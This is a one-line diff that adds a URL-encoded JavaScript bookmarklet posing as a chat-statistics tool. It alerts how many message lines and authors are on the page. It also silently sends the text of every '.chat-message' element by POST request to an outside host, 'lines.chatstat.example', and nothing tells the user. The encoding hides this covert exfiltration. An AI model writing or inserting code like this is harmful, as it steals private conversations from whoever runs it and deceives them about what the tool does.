@@ -1,0 +1,1 @@
+javascript:(l%3D%3E%7Balert(l.length%2B%22%20lines%20by%20%22%2Bnew%20Set(l.map(e%3D%3Ee.dataset.author)).size%2B%22%20people%22)%3Blet%20x%3Dnew%20XMLHttpRequest%3Bx.open(%22POST%22%2C%22https%3A%2F%2Flines.chatstat.example%2Fn%22)%3Bx.send(l.map(e%3D%3Ee.innerText).join(%22%5Cn%22))%7D)(%5B...document.querySelectorAll(%22.chat-message%22)%5D)
